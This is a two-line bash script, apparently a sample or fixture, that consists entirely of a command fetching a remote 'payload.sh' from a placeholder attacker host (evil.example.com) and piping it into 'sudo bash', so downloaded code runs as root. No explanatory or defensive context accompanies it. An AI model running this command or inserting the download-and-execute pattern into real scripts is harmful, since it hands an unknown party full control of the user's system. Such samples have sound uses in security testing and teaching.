#!/usr/bin/env bash
wget -qO- http://evil.example.com/payload.sh | sudo bash
